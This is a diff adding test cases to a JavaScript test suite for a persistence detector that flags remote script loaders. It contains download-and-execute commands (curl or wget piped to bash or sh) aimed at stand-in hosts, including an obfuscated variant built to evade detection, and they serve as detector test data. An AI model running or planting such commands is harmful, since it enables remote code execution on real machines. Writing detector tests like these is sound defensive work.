@@ -83,6 +83,19 @@ describe('the persistence detector', () => {
     assert.deepEqual(script('curl -s http://198.51.100.7/x | bash'), ['script-loader high']);
     assert.deepEqual(script('curl -fsSL https://sh.rustup.rs | sh -s -- -y'), ['script-loader info']);
     assert.deepEqual(script('curl -s http://localhost/health'), []);
+    assert.deepEqual(script('c""url -s "ht""tp://198.51.100.7/x" | ba\\sh'), ['script-loader high']);
+  });
+
+  it('reads scripts without a first line that says so, and says what they weigh when started', () => {
+    const text = 'wget -qO- http://files.example.com/x.sh | sh\n';
+    for (const place of [{ path: '/run' }, { path: '/x.sh' }, { path: '/a/b.x', mode: 0o755 }]) {
+      const [found] = inspect({ text, ...place });
+      assert.deepEqual(
+        [found?.rule, found?.confidence, found?.whenStarted],
+        ['persistence/script-loader', 0.5, 0.7],
+      );
+    }
+    assert.deepEqual(rules({ text, path: '/srv/notes.txt' }), []);
   });
 
   it('knows the usual setuid programs, by name, place and content', () => {
